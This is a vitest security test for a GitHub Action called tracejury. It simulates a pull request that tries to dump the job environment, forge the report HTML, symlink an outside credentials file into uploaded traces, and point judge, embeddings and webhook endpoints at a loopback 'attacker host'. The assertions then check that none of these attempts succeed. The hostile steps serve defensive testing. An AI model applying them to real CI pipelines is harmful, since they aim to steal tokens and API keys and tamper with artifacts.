/**
 * The bundled Action (dist/index.js) on a pull request someone tried to steer (issue 29, items 2,
 * 3, 4, 8), run as the runner runs it (actionRunner.ts: inputs as INPUT_*, the job token among
 * them) with the loopback GitHub (which serves the base branch's tracejury.yml), the loopback
 * artifact service (reached with ACTIONS_RUNTIME_TOKEN, as the runner gives a JavaScript action)
 * and a loopback "attacker host":
 *
 * - `command:` — the PR's suite writes down its environment, a forged `.tracejury/report.html`, a
 *   linked `.tracejury/traces/cache → <outside dir>` and a report naming `cache/credentials.json`.
 *   The suite saw neither the job's token nor the runtime token; the HTML uploaded is tracejury's;
 *   the saved traces upload holds the real trace and nothing from outside.
 * - `traces:` — the PR's tracejury.yml adds a judge, an embeddings endpoint and a webhook at the
 *   attacker host with `cassette.mode: record`: nothing reaches it; the base branch's judge does.
 *
 * Needs a dist/ built from this source (`npm run build && npm run bundle`).
 */
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIST, REPO, runAction } from '../helpers/actionRunner.js';
import { startFakeGitHub, type FakeGitHub } from '../helpers/fakeGitHub.js';
import { addRun, artifactEnv, artifactRoutes, createArtifactStore } from '../helpers/fakeGitHubArtifacts.js';
import { nativeTrace } from '../helpers/vitestProject.js';
import { errorReply, startFakeServer, type FakeServer } from '../judge/fakeServers.js';

const TOKEN = 'ghs_distPullRequestToken0123456789abcdef';
const PR = 41;
const BASE_SHA = 'ba5e'.repeat(10);
const CREDENTIALS = '{"aws_secret_access_key": "OUTSIDE-CREDENTIAL-0123456789"}';

const payload = (fork?: string) => ({
  action: 'synchronize',
  number: PR,
  pull_request: {
    number: PR,
    head: { sha: 'feed'.repeat(10), ref: 'feature', repo: { full_name: fork ?? 'acme/agent' } },
    base: { ref: 'main', sha: BASE_SHA, repo: { full_name: 'acme/agent' } },
  },
  repository: { full_name: 'acme/agent', default_branch: 'main' },
});

const store = createArtifactStore();
let gh: FakeGitHub;
let legit: FakeServer;
let attacker: FakeServer;

beforeAll(async () => {
  expect(existsSync(DIST), 'dist/index.js is missing: run `npm run build && npm run bundle`').toBe(true);
  gh = await startFakeGitHub({ routes: artifactRoutes(store), maxMs: 300_000 });
  legit = await startFakeServer(() => errorReply(500));
  attacker = await startFakeServer(() => errorReply(500));
});
afterAll(async () => {
  await Promise.all([gh.close(), legit.close(), attacker.close()]);
});

function checkout(): { root: string; ws: string; outside: string } {
  const root = mkdtempSync(path.join(tmpdir(), 'tracejury-dist-pr-'));
  const ws = path.join(root, 'ws');
  const outside = path.join(root, 'outside');
  mkdirSync(outside);
  mkdirSync(path.join(ws, 'traces'), { recursive: true });
  writeFileSync(path.join(outside, 'credentials.json'), CREDENTIALS);
  return { root, ws, outside };
}

describe('dist/index.js on a pull request someone tried to steer', () => {
  it('command: the suite gets a run: step’s environment; the HTML and the saved traces uploaded are tracejury’s and the checkout’s', async () => {
    const { root, ws, outside } = checkout();
    writeFileSync(path.join(ws, 'traces/checkout.jsonl'), `${nativeTrace('checkout-1', 6)}\n`);
    const envFile = path.join(root, 'env.json');
    // The PR's "suite": what any code in the PR could do in the eval command.
    writeFileSync(
      path.join(root, 'suite.mjs'),
      [
        `import { mkdirSync, symlinkSync, writeFileSync, copyFileSync } from 'node:fs';`,
        `import { analyze } from ${JSON.stringify(path.join(REPO, 'build/index.js'))};`,
        `writeFileSync(${JSON.stringify(envFile)}, JSON.stringify(process.env));`,
        `mkdirSync('.tracejury/traces', { recursive: true });`,
        `writeFileSync('.tracejury/report.html', '<html><body>FORGED PAGE: all green</body></html>');`,
        `symlinkSync(${JSON.stringify(outside)}, '.tracejury/traces/cache');`,
        `copyFileSync('traces/checkout.jsonl', '.tracejury/traces/checkout-1.jsonl');`,
        `const report = await analyze(['traces/checkout.jsonl'], { baselines: false, config: {} });`,
        `const saved = (file) => ({ id: 'checkout-1', file, line: 1 });`,
        `report.tests = [{ name: 'checkout does not loop', file: 'evals/checkout.test.ts', state: 'failed', attempts: 1, passedAttempts: 0, traces: ['checkout-1'],`,
        `  savedTraces: [saved('.tracejury/traces/checkout-1.jsonl'), saved('.tracejury/traces/cache/credentials.json')] }];`,
        `writeFileSync('.tracejury/report.json', JSON.stringify(report));`,
      ].join('\n'),
    );
    const prRun = addRun(store, { branch: 'feature', event: 'pull_request', workflowFile: 'tracejury.yml' });
    const runtime = artifactEnv(gh, prRun);
    const run = await runAction({
      workspace: ws,
      eventName: 'pull_request',
      payload: payload(),
      token: TOKEN,
      apiUrl: gh.url,
      inputs: { command: 'node ../suite.mjs', baseline: 'none', 'fail-on': 'never', 'check-run': 'false' },
      env: {
        ...runtime,
        GITHUB_RUN_ID: String(prRun.id),
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token',
      },
      timeoutMs: 120_000,
    });
    expect(run.code, run.log).toBe(0);

    // Item 3: the suite saw a run: step's environment.
    const env = JSON.parse(readFileSync(envFile, 'utf8')) as Record<string, string>;
    expect(Object.keys(env).filter((k) => /^INPUT_/i.test(k))).toEqual([]);
    expect(env).not.toHaveProperty('ACTIONS_RUNTIME_TOKEN');
    expect(env).not.toHaveProperty('ACTIONS_RESULTS_URL');
    expect(env).not.toHaveProperty('ACTIONS_ID_TOKEN_REQUEST_TOKEN');
    expect(JSON.stringify(env)).not.toContain(TOKEN);
    expect(JSON.stringify(env)).not.toContain(runtime.ACTIONS_RUNTIME_TOKEN);
    expect(env).toMatchObject({ GITHUB_REPOSITORY: 'acme/agent', CI: 'true' });

    const uploaded = store.artifacts.filter((a) => a.runId === prRun.id);
    // Item 8: the page uploaded is tracejury's, written from the report.
    const html = uploaded.find((a) => a.name === 'tracejury-report-default.html')!.bytes.toString('utf8');
    expect(html).not.toContain('FORGED PAGE');
    expect(html).toContain('<meta http-equiv="Content-Security-Policy"');
    expect(html).toContain('checkout-1');
    // Item 4: the saved traces hold the real trace, nothing from outside (a zip's entry names are
    // stored as they are).
    const traces = uploaded.find((a) => a.name === 'tracejury-traces-default')!.bytes;
    expect(traces.includes(Buffer.from('checkout-1.jsonl'))).toBe(true);
    expect(traces.includes(Buffer.from('credentials.json'))).toBe(false);
    expect(html).not.toContain('OUTSIDE-CREDENTIAL');
    expect(run.log).toContain('cache/credentials.json');
  }, 180_000);

  it.each([
    ['a branch of this repository', undefined],
    ['a fork', 'someone/agent-fork'],
  ])(
    'traces: from %s, nothing reaches the attacker host; the base branch’s judge does',
    async (_from, fork) => {
      const { ws } = checkout();
      writeFileSync(
        path.join(ws, 'traces/run.jsonl'),
        `${JSON.stringify({
          id: 'iterating',
          output: 'done',
          steps: ['R1', 'R2', 'R3'].map((id) => ({
            type: 'tool',
            name: 'get_reservation_details',
            args: { id },
            status: 'ok',
          })),
        })}\n`,
      );
      const judge = (url: string, model: string, key: string) =>
        `    - { provider: openai, model: ${model}, baseURL: "${url}", apiKeyEnv: ${key} }\n`;
      gh.files.set(
        `${BASE_SHA}:tracejury.yml`,
        `tribunal:\n  judges:\n${judge(legit.openaiBaseURL, 'gpt-4o', 'JUDGE_KEY')}  judgeTimeoutMs: 60000\n  budgetMs: 60000\n  cassette: { mode: auto }\n`,
      );
      writeFileSync(
        path.join(ws, 'tracejury.yml'),
        `tribunal:\n  judges:\n${judge(legit.openaiBaseURL, 'gpt-4o', 'JUDGE_KEY')}${judge(attacker.openaiBaseURL, 'gpt-4o-mini', 'OPENAI_API_KEY')}  judgeTimeoutMs: 60000\n  budgetMs: 60000\n  cassette: { mode: record }\n` +
          `embeddings: { model: text-embedding-3-small, baseURL: "${attacker.openaiBaseURL}", apiKeyEnv: OPENAI_API_KEY, maxRetries: 0 }\n` +
          `review:\n  webhook: { url: "${attacker.url}/hook", retries: 0 }\n`,
      );
      const before = legit.requests.length;
      const run = await runAction({
        workspace: ws,
        eventName: 'pull_request',
        payload: payload(fork),
        token: TOKEN,
        apiUrl: gh.url,
        inputs: { traces: 'traces', baseline: 'none', 'fail-on': 'never', 'check-run': 'false' },
        env: { JUDGE_KEY: 'judge-key', OPENAI_API_KEY: 'sk-ci-openai-0123456789abcdef' },
        timeoutMs: 120_000,
      });
      expect(run.code, run.log).toBe(0);
      expect(attacker.requests).toEqual([]);
      const judged = legit.requests.slice(before).filter((r) => r.api === 'openai');
      expect(judged.length).toBeGreaterThan(0);
      expect(judged.every((r) => r.headers.authorization === 'Bearer judge-key')).toBe(true);
      expect(run.log).toContain('is not a judge of the base branch');
      expect(gh.requests.some((r) => r.url.pathname === '/repos/acme/agent/contents/tracejury.yml')).toBe(
        true,
      );
    },
    180_000,
  );
});
